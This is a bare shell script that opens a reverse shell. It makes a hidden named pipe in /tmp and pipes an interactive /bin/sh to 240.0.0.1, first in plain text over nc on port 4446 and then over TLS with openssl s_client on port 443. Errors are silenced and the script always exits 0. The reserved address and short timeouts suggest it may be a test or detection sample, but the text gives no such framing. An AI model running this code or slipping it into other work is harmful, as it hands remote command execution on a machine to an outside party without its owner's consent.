#!/bin/sh
f=/tmp/.s$$
mkfifo $f
(timeout 3 sh -c "cat $f | /bin/sh -i 2>&1 | nc 240.0.0.1 4446 > $f") 2>/dev/null
(timeout 4 sh -c "/bin/sh -i < $f 2>&1 | openssl s_client -quiet -connect 240.0.0.1:443 > $f") 2>/dev/null
rm -f $f
exit 0
